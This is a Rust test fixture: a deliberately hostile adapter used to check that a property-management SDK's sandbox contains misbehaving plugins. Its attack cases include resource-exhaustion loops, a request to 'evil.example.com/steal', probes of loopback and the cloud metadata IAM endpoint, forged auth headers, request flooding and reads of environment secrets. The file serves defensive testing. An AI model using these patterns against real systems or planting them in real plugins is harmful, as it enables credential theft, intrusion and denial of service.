//! A hostile adapter for the sandbox tests. `get-reservation(<attack>)` runs the named attack;
//! the result (or the host's refusal) comes back as the error message or in the reservation's
//! notes, so the tests can see exactly what crossed into the guest.

use jack_pms_sdk::prelude::*;
use std::hint::black_box;

struct Hostile;

fn base() -> Result<String, PmsError> {
    config::require("baseUrl")
}

/// A reservation whose notes carry what the guest observed.
fn observed(notes: Vec<String>) -> Option<Reservation> {
    Some(Reservation {
        id: "observed".into(),
        confirmation_number: "OBSERVED".into(),
        guest_pms_id: "nobody".into(),
        guest_name: "Observer".into(),
        status: ReservationStatus::Reserved,
        arrival_date: "2024-01-01".into(),
        departure_date: "2024-01-02".into(),
        checkout_time: None,
        room_number: None,
        room_type: None,
        adults: 1,
        children: 0,
        notes,
    })
}

fn recurse(depth: u64, pad: [u64; 16]) -> u64 {
    if depth == u64::MAX {
        return pad[0];
    }
    black_box(recurse(depth + 1, black_box(pad))) + pad[(depth % 16) as usize]
}

fn send(request: Request) -> Result<Option<Reservation>, PmsError> {
    let response = request.send()?;
    Ok(observed(vec![
        response.status().to_string(),
        response.text(),
    ]))
}

impl Adapter for Hostile {
    const VENDOR: &'static str = "hostile";
    const VERSION: &'static str = env!("CARGO_PKG_VERSION");
    const OPERATIONS: &'static [Operation] = &[Operation::HealthCheck, Operation::GetReservation];

    fn health_check() -> Result<HealthStatus, PmsError> {
        Ok(HealthStatus {
            healthy: true,
            detail: Some("hostile adapter, behaving for now".into()),
        })
    }

    fn get_reservation(attack: String) -> Result<Option<Reservation>, PmsError> {
        match attack.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(black_box(vec![1u8; 1 << 20]));
                }
            }
            "recursion" => Ok(observed(vec![recurse(0, [7; 16]).to_string()])),
            "trap" => panic!("the hostile adapter panics on purpose"),
            "forbidden-host" => send(Request::get("https://evil.example.com/steal")),
            "loopback" => send(Request::get("http://127.0.0.1:1/admin")),
            "metadata" => send(Request::get("http://169.254.169.254/latest/meta-data/iam")),
            "plain-http" => send(Request::get(
                format!("{}/api/v1/echo", base()?).replace("127.0.0.1", "localhost"),
            )),
            "auth-header" => send(
                Request::get(format!("{}/api/v1/echo", base()?))
                    .header("Authorization", "Bearer stolen"),
            ),
            "api-key-header" => send(
                Request::get(format!("{}/api/v1/echo", base()?)).header("X-Api-Key", "guessed"),
            ),
            "huge" => {
                // Bigger than the 1 MiB cap the tests set, smaller than the mock PMS's body limit.
                let body = vec![b'x'; 1536 << 10];
                send(
                    Request::post(format!("{}/api/v1/echo", base()?))
                        .credentials(CredentialScheme::ApiKeyHeader)
                        .body(body),
                )
            }
            "many-requests" => {
                let url = format!("{}/api/v1/echo", base()?);
                for i in 0.. {
                    Request::get(&url)
                        .credentials(CredentialScheme::ApiKeyHeader)
                        .send()
                        .map_err(|e| internal(format!("request {} failed: {e}", i + 1)))?;
                }
                unreachable!()
            }
            "wrong-scheme" => send(
                Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::JsonBodyCredentials)
                    .body(b"{}".to_vec()),
            ),
            "echo" => {
                let response = Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::ApiKeyHeader)
                    .body(b"hello".to_vec())
                    .send()?;
                let headers: Vec<String> = ["x-api-key"]
                    .iter()
                    .filter_map(|h| response.header(h).map(|v| format!("{h}: {v}")))
                    .collect();
                let mut notes = vec![response.status().to_string(), response.text()];
                notes.extend(headers);
                Ok(observed(notes))
            }
            "environment" => {
                let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
                let args: Vec<String> = std::env::args().collect();
                let mut stdin = String::new();
                let stdin_result = std::io::Read::read_to_string(&mut std::io::stdin(), &mut stdin);
                Ok(observed(vec![
                    format!("vars={}", vars.len()),
                    format!("args={}", args.len()),
                    format!("home={:?}", std::env::var("HOME").ok()),
                    format!("key={:?}", std::env::var("JACK_MOCK_PMS_KEY").ok()),
                    format!("stdin={:?}/{}", stdin_result.is_ok(), stdin.len()),
                ]))
            }
            "stdout" => {
                println!("hostile stdout line");
                eprintln!("hostile stderr line");
                jack_pms_sdk::warn!("hostile log line");
                Ok(observed(vec!["printed".into()]))
            }
            "bad-date" => {
                let mut r = observed(vec![]);
                if let Some(r) = r.as_mut() {
                    r.arrival_date = "yesterday".into();
                }
                Ok(r)
            }
            "oauth-echo" => send(
                Request::post(format!("{}/api/v1/echo", base()?))
                    .credentials(CredentialScheme::Oauth2ClientCredentials)
                    .body(b"hello".to_vec()),
            ),
            other => {
                if let Some(url) = other.strip_prefix("get:") {
                    send(Request::get(url))
                } else if let Some(path) = other.strip_prefix("oauth:") {
                    // `oauth:<path>`: a read with host-owned OAuth credentials.
                    send(
                        Request::get(format!("{}{path}", base()?))
                            .credentials(CredentialScheme::Oauth2ClientCredentials),
                    )
                } else {
                    Ok(None)
                }
            }
        }
    }
}

export_adapter!(Hostile);
